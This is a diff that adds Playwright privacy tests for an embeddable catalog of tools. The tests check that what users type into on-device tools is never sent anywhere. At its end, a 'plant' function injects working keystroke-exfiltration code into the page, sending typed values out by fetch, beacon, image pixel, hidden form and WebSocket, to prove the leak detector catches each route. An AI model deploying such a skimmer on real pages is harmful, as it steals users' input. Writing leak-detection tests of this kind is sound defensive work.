@@ -1,0 +1,125 @@
+import { type CatalogTool, tools } from "@iep-insider/sdk/catalog";
+import type { Page } from "@playwright/test";
+import { listenForSockets } from "./fixtures/sockets.ts";
+import { expect, test } from "./fixtures/test.ts";
+import { forbidden, recordTraffic, type SentRequest } from "./fixtures/traffic.ts";
+import { type Entered, useEverything } from "./fixtures/useEverything.ts";
+import { loader, openPage } from "./fixtures/written.ts";
+
+// What is typed, chosen and got in a tool that runs on the device never leaves it (DECISIONS 35). One search for all of
+// them: a tool of the catalog that is opened is found here by itself.
+
+const localTools = tools.filter((tool) => tool.isImplemented && tool.payment !== "ai_question");
+
+/** The requests that hold something typed, or the words of something chosen. */
+function leaksOf(sent: readonly SentRequest[], { typed, chosen }: Entered): readonly SentRequest[] {
+  // Short words such as "School" or "Yes" stand in addresses of ours.
+  const words = [...typed, ...chosen.filter((label) => label.length > 12)].map((word) => word.toLowerCase());
+  return sent.filter(({ everything }) => {
+    const text = everything.toLowerCase();
+    return words.some((word) => text.includes(word));
+  });
+}
+
+/** Where the print dialog would come, it is known what was printed. */
+async function withoutPrintDialog(page: Page): Promise<void> {
+  await page.addInitScript(() => {
+    window.print = () => window.dispatchEvent(new Event("afterprint"));
+  });
+}
+
+const counts = (sent: readonly SentRequest[], { id }: CatalogTool) =>
+  sent.filter(({ url, body }) => url.endsWith("/api/count") && body?.includes(`"${id}"`));
+
+for (const tool of localTools) {
+  const onOurSite = tool.inHub ? `/advanced-tools?tool=${tool.id}` : "/tools";
+  for (const place of ["a partner's page", "our own site"] as const) {
+    test(`${tool.title} on ${place}: nothing that goes in or comes out is sent anywhere`, async ({
+      page,
+      context,
+      origins,
+    }) => {
+      test.slow();
+      await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+      await withoutPrintDialog(page);
+      const isElement = place === "a partner's page";
+      if (isElement) await openPage(page, origins, `${loader(origins)}<${tool.tag}></${tool.tag}>`);
+      else await page.goto(origins.product + onOurSite);
+      const area = isElement ? page.locator(tool.tag) : page.getByRole("main").locator(".iep-tool");
+      await expect(area.locator(":is(button, select, input):visible").first()).toBeVisible();
+      const traffic = recordTraffic(page);
+
+      const entered = await useEverything(area, page);
+
+      expect(entered.taken.length, "something was taken away").toBeGreaterThan(0);
+      expect(entered.chosen.length + entered.typed.length, "something went in").toBeGreaterThan(0);
+      // Counts wait two seconds (DECISIONS 70).
+      await expect.poll(async () => counts(await traffic.sent(), tool).length).toBeGreaterThan(0);
+      const sent = await traffic.sent();
+      expect(leaksOf(sent, entered).map(({ url }) => url)).toEqual([]);
+      expect(forbidden(sent, origins.product, origins.partner).map(({ url }) => url)).toEqual([]);
+    });
+  }
+}
+
+/** What a page around a tool could do: a shadow root that is open hides nothing, so the search has to see it all. */
+const plantedLeaks = ["fetch", "beacon", "image", "form", "websocket"] as const;
+
+test("the same search finds every leak that a page plants around a tool", async ({
+  page,
+  context,
+  origins,
+  consoleMessages,
+}) => {
+  await context.grantPermissions(["clipboard-read", "clipboard-write"]);
+  await withoutPrintDialog(page);
+  const sockets = await listenForSockets();
+  await openPage(page, origins, `${loader(origins)}<iep-letter-generator></iep-letter-generator>`);
+  await expect(page.getByRole("combobox").first()).toBeVisible();
+  const traffic = recordTraffic(page);
+  await page.evaluate(plant, { product: origins.product, socket: sockets.address });
+
+  const entered = await useEverything(page.locator("iep-letter-generator"), page);
+
+  await expect
+    .poll(async () => {
+      const leaks = leaksOf(await traffic.sent(), entered);
+      return plantedLeaks.filter((kind) => leaks.some(({ url }) => url.includes(`planted-${kind}`)));
+    })
+    .toEqual(plantedLeaks);
+  const sent = await traffic.sent();
+  const notAllowed = forbidden(sent, origins.product, origins.partner).map(({ url }) => url);
+  for (const kind of plantedLeaks)
+    expect(
+      notAllowed.some((url) => url.includes(`planted-${kind}`)),
+      kind,
+    ).toBe(true);
+  await sockets.close();
+  // The addresses lead nowhere, and the browser says so.
+  consoleMessages.splice(0);
+});
+
+/** Runs in the page: sends what is typed, in five ways and as many disguises. */
+function plant({ product, socket }: { product: string; socket: string }): void {
+  const open = new WebSocket(`${socket}/planted-websocket`);
+  document.addEventListener("input", (event) => {
+    const [field] = event.composedPath();
+    if (!(field instanceof HTMLInputElement || field instanceof HTMLTextAreaElement)) return;
+    const { value } = field;
+    fetch(`${product}/planted-fetch`, { method: "POST", mode: "no-cors", body: JSON.stringify({ value }) });
+    navigator.sendBeacon(`${product}/planted-beacon`, btoa(value));
+    new Image().src = `${product}/planted-image?q=${encodeURIComponent(value)}`;
+    const frame = document.createElement("iframe");
+    frame.name = `frame${Math.random()}`;
+    const form = document.createElement("form");
+    form.target = frame.name;
+    form.action = `${product}/planted-form`;
+    form.append(Object.assign(document.createElement("input"), { name: "q", value }));
+    document.body.append(frame, form);
+    form.submit();
+    const hex = [...new TextEncoder().encode(value)]
+      .map((byte) => byte.toString(16).padStart(2, "0"))
+      .join("");
+    if (open.readyState === WebSocket.OPEN) open.send(hex);
+  });
+}
